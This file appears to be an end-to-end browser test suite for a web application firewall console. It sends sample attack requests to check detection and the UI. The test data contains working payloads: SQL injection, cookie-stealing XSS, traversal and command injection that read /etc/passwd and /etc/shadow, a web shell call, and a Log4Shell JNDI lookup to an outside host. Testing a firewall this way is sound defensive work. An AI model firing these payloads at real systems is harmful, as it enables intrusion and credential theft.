// The page in a real Chromium against a real wafd: doors, list, detail, live tail, settings, accessibility.
// WAFD_SCREENSHOTS=FOLDER also takes a picture of every page, light and dark.
import assert from 'node:assert/strict';
import dgram from 'node:dgram';
import net from 'node:net';
import { after, before, describe, test } from 'node:test';

import { axeViolations } from '../support/axe.mjs';
import { openBrowser, setUp } from '../support/browser.mjs';
import { at_rest, picture, screenshots } from '../support/pictures.mjs';
import { until } from '../support/processes.mjs';
import { views } from '../support/views.mjs';
import { Wafd, request } from '../support/wafd.mjs';

describe('the page', () => {
  let wafd;
  let chromium;
  let page;
  let account;
  const open = (query = '') => page.goto(`${wafd.console}/${query}`);
  const hook = (name) => page.getByTestId(name);

  // The original target behind /check is the request itself.
  const attack = (target) => request(`${wafd.http}/check${target}`, { headers: { Host: 'shop.example' } });

  before(async () => {
    wafd = await Wafd.start();
    chromium = await openBrowser();
    ({ page } = chromium);
    page.setDefaultTimeout(10_000);
  });
  after(async () => {
    await chromium?.close();
    await wafd?.stop();
  });

  test('first start: a wrong token is refused beside the form, the right one opens the page', async () => {
    await open();
    await hook('setup-form').waitFor();
    await page.locator('[name=token]').fill('wrong');
    for (const field of await page.locator('[type=password]').all()) await field.fill('a quiet gateway at dusk 7');
    await hook('setup-submit').click();
    await page.locator('[role=alert]').first().waitFor();
    assert.equal(await page.locator('[name=token]').inputValue(), 'wrong', 'what was typed stays');
    account = await setUp(page, wafd);
  });

  test('log out, a wrong password, log in', async () => {
    await hook('account-menu').click();
    await hook('log-out').click();
    await hook('login-form').waitFor();
    await page.locator('[name=username]').fill(account.username);
    await page.locator('[name=password]').fill('not the password at all');
    await hook('login-submit').click();
    await hook('form-error').waitFor();
    await until('the delay after a wrong password', async () => {
      await page.locator('[name=password]').fill(account.password);
      await hook('login-submit').click();
      return hook('event-list').waitFor({ timeout: 1500 }).then(() => true, () => false);
    });
  });

  test('an attack appears by itself, at the top', async () => {
    await open();
    await hook('empty').waitFor();
    await until('the tail to be open', async () => (await hook('live').innerText()).includes('Live'));
    await attack('/item?id=1%27%20OR%20%271%27=%271');
    await hook('event-row').first().waitFor();
    assert.match(await hook('event-list').innerText(), /SQL injection/);
    await attack('/search?q=%3Cscript%3Ealert(1)%3C/script%3E');
    await until('the newest on top', async () => /Cross-site/.test(await hook('event-row').first().innerText()));
  });

  test('keyboard: j, k, Enter, Escape and the address', async () => {
    await open();
    await hook('event-row').nth(1).waitFor();
    await page.keyboard.press('j');
    await page.keyboard.press('j');
    await page.keyboard.press('Enter');
    await hook('verdict').waitFor();
    const second = await hook('event-row').nth(1).getAttribute('data-event-id');
    assert.equal(new URL(page.url()).searchParams.get('event'), second);
    await page.keyboard.press('k');
    const first = await hook('event-row').first().getAttribute('data-event-id');
    await until('the newer event', () => new URL(page.url()).searchParams.get('event') === first);
    await page.keyboard.press('Escape');
    await hook('event-detail').waitFor({ state: 'detached' });
    await page.keyboard.press('/');
    assert.equal(await page.evaluate(() => document.activeElement?.id), 'query');
    await page.keyboard.press('Escape');
    await page.keyboard.press('?');
    await hook('help-dialog').waitFor();
    await page.keyboard.press('Escape');
    await hook('help-dialog').waitFor({ state: 'detached' });
  });

  test('detail: verdict, marked match, 58 fields, neighbours, copies', async () => {
    await open('?q=type:sqli');
    await hook('event-row').first().locator('.cell-time').click();
    await hook('verdict').waitFor();
    assert.match(await hook('verdict').innerText(), /SQL injection\s+in the query parameter/);
    const marked = decodeURIComponent((await hook('match').first().innerText()).replace(/\+/g, ' '));
    // Exactly the payloads of the findings are marked: overlapping ones are one mark.
    const { record, detail } = await wafd.event(await hook('event-detail').getAttribute('data-event-id'));
    assert.ok(record.req_payload.length > 3 && marked.includes(record.req_payload), marked);
    const payloads = detail.findings.map((finding) => finding.payload);
    assert.ok(payloads.every((payload) => marked.includes(payload)), marked);
    assert.ok(payloads.some((payload) => marked.startsWith(payload)) && payloads.some((payload) => marked.endsWith(payload)), marked);
    // Findings stand by the parameter in which they are, and lead to their marks. One action is the first, copies are in a menu.
    const places = new Set(detail.findings.map((finding) => `${finding.location} ${finding.name}`));
    assert.equal(await page.locator('.found-in').count(), places.size);
    assert.equal(await hook('finding').count(), detail.findings.length);
    await hook('match').first().evaluate((one) => one.closest('.raw').scrollIntoView({ block: 'end' }));
    await hook('finding-mark').first().click();
    await until('its mark', () => hook('match').first().evaluate((one) => document.activeElement === one));
    assert.equal(await hook('event-detail').locator('.button.primary').count(), 1);
    assert.equal(await hook('copy-json').isVisible(), false);
    await hook('all-fields').locator('summary').click();
    assert.equal(await hook('all-fields').locator('tr').count(), 58);
    await page.context().grantPermissions(['clipboard-read', 'clipboard-write'], { origin: wafd.console });
    await hook('copy-menu').click();
    await hook('copy-json').click();
    const copied = JSON.parse(await until('the clipboard', () => page.evaluate(() => navigator.clipboard.readText())));
    assert.equal(copied.event_id, await hook('event-detail').getAttribute('data-event-id'));
    await hook('same-rule').click();
    await until('the filter', async () => (await hook('query').inputValue()).startsWith('rule:'));
    await page.goBack();
    await until('Back', async () => (await hook('query').inputValue()) === 'type:sqli');
  });

  test('values filter, Back returns, a wrong query is explained and the list stays', async () => {
    await open();
    await hook('facet-type').getByRole('button', { name: /SQL injection/ }).first().click();
    await until('only SQL injection', async () => new URL(page.url()).searchParams.get('q') === 'type:sqli');
    await until('the rows', async () => !/Cross-site/.test(await hook('event-list').innerText()));
    await page.goBack();
    await until('both again', async () => /Cross-site/.test(await hook('event-list').innerText()));
    await hook('query').fill('nofield:x');
    await hook('query-error').waitFor();
    assert.ok((await hook('event-row').count()) > 0);
    await hook('query-clear').click();
    await hook('query-error').waitFor({ state: 'detached' });
  });

  test('a target: the server’s words at the field, nothing lost, saved with host alone', async () => {
    await open('?view=settings&section=syslog');
    await hook('target-add').click();
    await hook('target-host').fill('siem.example');
    await hook('target-port').fill('99999');
    await hook('target-save').click();
    await page.locator('.field-error').waitFor();
    assert.deepEqual([await hook('target-host').inputValue(), await hook('target-port').inputValue()], ['siem.example', '99999']);
    await hook('target-transport').selectOption('tcp');
    assert.equal(await hook('target-port').inputValue(), '99999', 'an edited port stays');
    await hook('target-transport').selectOption('udp');
    const receiver = dgram.createSocket('udp4');
    await new Promise((resolve) => receiver.bind(0, '127.0.0.1', resolve));
    await hook('target-host').fill('127.0.0.1');
    await hook('target-port').fill(`${receiver.address().port}`);
    await hook('target-save').click();
    await hook('saved').waitFor();
    assert.match(await hook('target-row').innerText(), /127\.0\.0\.1/);
    receiver.close();
  });

  test('the test button: honest for UDP, refused for a closed port, accepted for TCP', async () => {
    const receiver = dgram.createSocket('udp4');
    const heard = new Promise((resolve) => receiver.once('message', (bytes) => resolve(bytes.toString())));
    await new Promise((resolve) => receiver.bind(0, '127.0.0.1', resolve));
    const tcp = net.createServer((socket) => socket.resume().on('error', () => {}));
    await new Promise((resolve) => tcp.listen(0, '127.0.0.1', resolve));
    const run = async (transport, port) => {
      await open('?view=settings&section=syslog&target=new');
      await hook('target-transport').selectOption(transport);
      await hook('target-host').fill('127.0.0.1');
      await hook('target-port').fill(`${port}`);
      await hook('test-connection').click();
      await hook('test-verdict').waitFor();
      return hook('test-verdict').locator('[data-verdict]').getAttribute('data-verdict');
    };
    assert.equal(await run('udp', receiver.address().port), 'sent');
    assert.match(await heard, /^<30>1 .* - Connectivity test requested\.$/);
    assert.equal(await page.locator('.notice-good').count(), 0, 'no green for UDP');
    assert.deepEqual(await page.locator('.stage-ok').evaluateAll((stages) => stages.map((s) => s.dataset.testid)), ['stage-resolve'], 'no tick for what a socket of UDP says');
    assert.equal(await run('tcp', tcp.address().port), 'accepted');
    const closed = tcp.address().port;
    await new Promise((resolve) => tcp.close(resolve));
    assert.match(await run('tcp', closed), /^(closed|failed)$/);
    assert.equal(await hook('stage-connect').getAttribute('data-ok'), 'false');
    assert.match(await hook('test-panel').innerText(), /Bytes that would have been sent/);
    receiver.close();
  });

  test('a host without a site is adopted; what has hits shows them', async () => {
    await open('?view=settings&section=sites');
    const row = hook('unknown-host').filter({ hasText: 'shop.example' });
    await row.waitFor();
    await row.getByTestId('host-adopt').click();
    await hook('site-dialog').waitFor();
    assert.equal(await hook('site-hosts').inputValue(), 'shop.example');
    await hook('site-dialog').locator('[type=submit]').click();
    await hook('site-dialog').waitFor({ state: 'detached' });
    await until('the site', async () => (await hook('site-row').count()) === 2);
    await until('the host to be no unknown one', async () => (await row.count()) === 0);
    assert.match(await hook('site-days').first().innerText(), /requests, \d+ denied/);
    await open('?view=settings&section=rules');
    await hook('rules').waitFor();
    const { rules } = await wafd.api('GET', '/rules');
    assert.ok(rules.some((rule) => rule.hits.count > 0));
  });

  test('a request is tried with a draft of a rule', async () => {
    await open('?view=try');
    await hook('inspect-request').fill('GET /never-seen-before HTTP/1.1\nHost: shop.example\n\n');
    await hook('inspect-form').locator('summary').click();
    await hook('inspect-rule').fill('{"id": "mine", "name": "Mine", "attack_type": "custom", "risk": "low", "location": "urlpath", "expression": "never-seen"}');
    await hook('inspect-run').click();
    await hook('inspect-draft').waitFor();
    assert.match(await hook('inspect-result').innerText(), /Nothing found/);
    assert.match(await hook('inspect-draft').innerText(), /Mine/);
    await hook('inspect-rule').fill('{"id": "mine"}');
    await hook('inspect-run').click();
    await page.getByText('rule "mine"').first().waitFor();
  });

  test('many kinds of events from many sources stand in the list, each counted once', async () => {
    // [path and query, user agent] as attackers send them; every third is only mirrored.
    const kinds = [
      ['/item?id=7%20UNION%20SELECT%20login,secret%20FROM%20accounts--', 'sqlmap/1.7'],
      ['/search?q=%3Cimg%20src=x%20onerror=alert(document.cookie)%3E', 'Mozilla/5.0'],
      ['/download?file=../../../../etc/passwd', 'curl/8.5'],
      ['/ping?host=127.0.0.1;cat%20/etc/shadow', 'python-requests/2.31'],
      ['/.git/config', 'Go-http-client/1.1'],
      ['/shell.php?cmd=id', 'Mozilla/5.0'],
      ['/view?page=php://filter/convert.base64-encode/resource=index', 'Mozilla/5.0'],
      ['/login?user=$%7Bjndi:ldap://203.0.113.9/a%7D', 'Mozilla/5.0'],
    ];
    const before = (await wafd.api('GET', '/events?limit=1000')).events.length;
    const ids = new Set();
    for (let n = 0; n < 48; n += 1) {
      const [uri, agent] = kinds[(n * 5) % kinds.length];
      const source = `198.51.100.${(n * n) % 9}`;
      const host = n % 4 === 0 ? 'api.shop.example' : 'shop.example';
      if (n % 3 === 2) {
        const record = JSON.stringify({ method: 'GET', uri, src_ip: source, host, headers: [['Host', host], ['User-Agent', agent]] });
        assert.equal((await request(`${wafd.http}/v1/records`, { method: 'POST', body: `${record}\n` })).status, 200);
        continue;
      }
      const answer = await request(`${wafd.http}/check`, {
        headers: { 'X-Forwarded-Method': 'GET', 'X-Forwarded-Proto': 'https', 'X-Forwarded-Host': host, 'X-Forwarded-Uri': uri, 'X-Forwarded-For': source, 'User-Agent': agent },
      });
      assert.equal(answer.status, 403, uri);
      ids.add(answer.json().event_id);
    }
    assert.equal(ids.size, 32);
    const { events } = await until('all of them', async () => {
      const answer = await wafd.api('GET', '/events?limit=1000');
      return answer.events.length === before + 48 && answer;
    });
    const actions = events.slice(0, 48).map(({ record }) => record.action);
    assert.equal(actions.filter((action) => action === 'monitor').length, 16);
    await open('');
    await until('the list counts them', async () => (await hook('event-total').innerText()).includes(`${before + 48}`));
  });

  for (const scheme of ['light', 'dark']) {
    test(`every view, ${scheme}: accessible, no error, nothing from elsewhere`, async () => {
      await page.emulateMedia({ colorScheme: scheme });
      const violations = [];
      for (const [name, query] of Object.entries(views)) {
        await open(query);
        await page.locator('h1, h2').first().waitFor();
        if (name === 'detail') {
          await hook('event-row').first().locator('.cell-time').click();
          await hook('verdict').waitFor();
        }
        await page.waitForLoadState('load');
        if (screenshots) await until('the answers', () => page.evaluate(() => document.readyState === 'complete' && document.querySelectorAll('.facet-empty').length === 0));
        await picture(page, name, scheme);
        await at_rest(page);
        violations.push(...await axeViolations(page, name));
      }
      assert.deepEqual(violations, []);
    });
  }

  test('nothing was reported by the browser', () => assert.deepEqual(chromium.complaints.filter((c) => !/status of 4(00|22)/.test(c)), []));
});
